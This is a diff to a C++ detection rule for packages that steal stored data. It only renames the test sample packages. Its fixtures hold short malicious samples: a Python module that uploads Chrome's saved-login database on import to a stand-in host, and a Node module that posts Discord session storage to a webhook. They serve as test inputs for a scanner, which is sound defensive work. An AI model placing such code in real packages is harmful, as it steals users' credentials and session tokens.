@@ -43,15 +43,15 @@ extern constinit const Rule steals_stored_data = {
 #ifdef RULE_SAMPLES
 constexpr Sample samples[] = {
     {.name = "a module uploads saved logins when imported",
-     .expect = "sample/__init__.py:5",
+     .expect = "widget/__init__.py:5",
      .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 from setuptools import setup
-setup(name="sample", version="1.0.0", packages=["sample"])
-==> sample/__init__.py
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
 import os
 import requests
 path = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default", "Login Data")
@@ -61,18 +61,18 @@ requests.post("https://collect.example.test/", data=data)
     {.name = "a session file is posted to a webhook",
      .expect = "index.js:6",
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js"}
+{"name": "widget", "version": "1.0.0", "main": "index.js"}
 ==> index.js
 const fs = require("fs");
 const axios = require("axios");
 const folder = process.env.APPDATA + "/discord/Local Storage/leveldb/";
 exports.run = () => {
   const data = fs.readFileSync(folder + "000003.log", "utf8");
-  axios.post("https://discord.com/api/webhooks/0/sample", {content: data});
+  axios.post("https://discord.com/api/webhooks/0/widget", {content: data});
 };
 )"},
     {.name = "a browser is only started", .expect = silent, .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js"}
+{"name": "widget", "version": "1.0.0", "main": "index.js"}
 ==> index.js
 const {spawn} = require("child_process");
 exports.open = (url) => spawn("google-chrome", [url]);
